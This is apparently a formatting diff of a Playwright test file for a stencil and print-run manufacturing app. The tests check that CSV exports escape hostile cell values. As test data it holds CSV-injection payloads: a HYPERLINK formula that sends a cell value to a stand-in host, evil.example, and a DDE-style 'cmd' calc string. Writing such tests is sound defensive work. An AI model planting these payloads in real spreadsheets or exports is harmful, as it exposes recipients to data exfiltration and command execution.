@@ -16,14 +16,17 @@ function readCsv(text: string): string[][] {
 const HOSTILE_REFDES = [
 	'=HYPERLINK("http://evil.example/?"&A1,"open")',
 	'+1+2',
-	'-2+3*cmd|\' /C calc\'!A0',
+	"-2+3*cmd|' /C calc'!A0",
 	'@SUM(1+1)',
 	'say "hi", then\nleave',
 	'R1\r\n=1+2'
 ];
 
 test.describe('CSV exports over HTTP', () => {
-	test('the aperture CSV keeps hostile names in their cells and imports again unchanged', async ({ page, request }) => {
+	test('the aperture CSV keeps hostile names in their cells and imports again unchanged', async ({
+		page,
+		request
+	}) => {
 		const engineer = bearer(tokenFor('engineer'));
 		const name = `Evil ${Date.now() % 1_000_000}\n=HYPERLINK("http://evil.example","x"), "rev"`;
 		const created = await request.post('/api/stencils', {
@@ -54,7 +57,10 @@ test.describe('CSV exports over HTTP', () => {
 				]
 			}
 		];
-		const imported = await request.post(`/api/stencils/${stencil.id}/apertures`, { headers: engineer, data: { apertures } });
+		const imported = await request.post(`/api/stencils/${stencil.id}/apertures`, {
+			headers: engineer,
+			data: { apertures }
+		});
 		expect(imported.status()).toBe(201);
 
 		await signInAs(page, 'viewer');
@@ -75,18 +81,28 @@ test.describe('CSV exports over HTTP', () => {
 			expect(row![col('pad')]).toBe(escaped(a.pad));
 		}
 		// Number lists are not escaped, so polygon vertices read back as numbers.
-		expect(body.find((r) => r[col('refdes')] === 'Q1')![col('vertices')]).toBe('-500 -300;500 -300;500 300;-500 300');
+		expect(body.find((r) => r[col('refdes')] === 'Q1')![col('vertices')]).toBe(
+			'-500 -300;500 -300;500 300;-500 300'
+		);
 
 		// The export is our import layout in µm: it imports into a new stencil as the same apertures.
 		const copy = await request.post('/api/stencils', {
 			headers: engineer,
-			data: { name: `${stencil.id} copy ${Date.now()}`, revision: 'A', thicknessUm: 127, technology: 'laser-stainless' }
+			data: {
+				name: `${stencil.id} copy ${Date.now()}`,
+				revision: 'A',
+				thicknessUm: 127,
+				technology: 'laser-stainless'
+			}
 		});
 		const copyId = (await copy.json()).id;
-		const again = await request.post(`/api/stencils/${copyId}/apertures?fileName=copy.csv&unit=um`, {
-			headers: { ...engineer, 'content-type': 'text/csv' },
-			data: text
-		});
+		const again = await request.post(
+			`/api/stencils/${copyId}/apertures?fileName=copy.csv&unit=um`,
+			{
+				headers: { ...engineer, 'content-type': 'text/csv' },
+				data: text
+			}
+		);
 		expect(again.status(), await again.text()).toBe(201);
 		const listed = await request.get(`/api/stencils/${copyId}/apertures`, { headers: engineer });
 		const back = (await listed.json()).apertures as { refdes: string; pad: string; xUm: number }[];
@@ -108,8 +124,17 @@ test.describe('CSV exports over HTTP', () => {
 		const engineer = bearer(tokenFor('engineer'));
 		const technician = bearer(tokenFor('technician'));
 		await request.post('/api/lines', { headers: engineer, data: { code: line, name: 'csv line' } });
-		await request.post('/api/products', { headers: engineer, data: { code: product, name: 'csv board' } });
-		const parameters = { squeegeeAngleDeg: 60, squeegeeSpeedMmS: 40, squeegeePressureKg: 7.5, separationSpeedMmS: 1, printStroke: 'alternating' };
+		await request.post('/api/products', {
+			headers: engineer,
+			data: { code: product, name: 'csv board' }
+		});
+		const parameters = {
+			squeegeeAngleDeg: 60,
+			squeegeeSpeedMmS: 40,
+			squeegeePressureKg: 7.5,
+			separationSpeedMmS: 1,
+			printStroke: 'alternating'
+		};
 		const windows = {
 			squeegeeAngleDeg: { min: 45, target: 60, max: 60 },
 			squeegeeSpeedMmS: { min: 20, target: 40, max: 100 },
@@ -117,8 +142,21 @@ test.describe('CSV exports over HTTP', () => {
 			separationSpeedMmS: { min: 0.5, target: 1, max: 3 },
 			printStroke: 'alternating'
 		};
-		expect((await request.post('/api/recipes', { headers: engineer, data: { line, product, parameters: windows } })).status()).toBe(201);
-		const serials = ['=HYPERLINK("http://evil.example","open")', '+SUM(1,2)', '@cmd', '-2+3', 'FW-P1-000777'];
+		expect(
+			(
+				await request.post('/api/recipes', {
+					headers: engineer,
+					data: { line, product, parameters: windows }
+				})
+			).status()
+		).toBe(201);
+		const serials = [
+			'=HYPERLINK("http://evil.example","open")',
+			'+SUM(1,2)',
+			'@cmd',
+			'-2+3',
+			'FW-P1-000777'
+		];
 		for (const [i, boardSerial] of serials.entries()) {
 			const started = await request.post('/api/print-runs', {
 				headers: technician,
@@ -140,22 +178,46 @@ test.describe('CSV exports over HTTP', () => {
 			});
 			expect(ended.status()).toBe(200);
 		}
-		const csv = await request.get(`/api/print-runs/export.csv?line=${line}`, { headers: bearer(tokenFor('viewer')) });
+		const csv = await request.get(`/api/print-runs/export.csv?line=${line}`, {
+			headers: bearer(tokenFor('viewer'))
+		});
 		const rows = readCsv(await csv.text());
 		const column = rows[0].indexOf('boardSerial');
-		expect(rows.slice(1).map((r) => r[column]).sort()).toEqual(serials.map(escaped).sort());
-		expect(escaped('=HYPERLINK("http://evil.example","open")')).toBe(`'=HYPERLINK("http://evil.example","open")`);
+		expect(
+			rows
+				.slice(1)
+				.map((r) => r[column])
+				.sort()
+		).toEqual(serials.map(escaped).sort());
+		expect(escaped('=HYPERLINK("http://evil.example","open")')).toBe(
+			`'=HYPERLINK("http://evil.example","open")`
+		);
 	});
 
-	test("the chart's CSV download in the browser is written by the same writer", async ({ page }) => {
+	test("the chart's CSV download in the browser is written by the same writer", async ({
+		page
+	}) => {
 		await signInAs(page, 'quality');
 		await page.goto('/charts');
 		await page.locator('a[href^="/charts/"]:not([href="/charts/new"])').first().click();
-		const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'CSV' }).click()]);
+		const [download] = await Promise.all([
+			page.waitForEvent('download'),
+			page.getByRole('button', { name: 'CSV' }).click()
+		]);
 		const chunks: Buffer[] = [];
 		for await (const chunk of (await download.createReadStream())!) chunks.push(chunk as Buffer);
 		const rows = readCsv(Buffer.concat(chunks).toString('utf8'));
-		expect(rows[0]).toEqual(['index', 'label', 'time', 'n', 'location', 'dispersion', 'moving_range', 'excluded', 'signals']);
+		expect(rows[0]).toEqual([
+			'index',
+			'label',
+			'time',
+			'n',
+			'location',
+			'dispersion',
+			'moving_range',
+			'excluded',
+			'signals'
+		]);
 		expect(rows.length).toBeGreaterThan(1);
 		for (const row of rows.slice(1)) {
 			expect(Number.isFinite(Number(row[4])), row.join(',')).toBe(true);
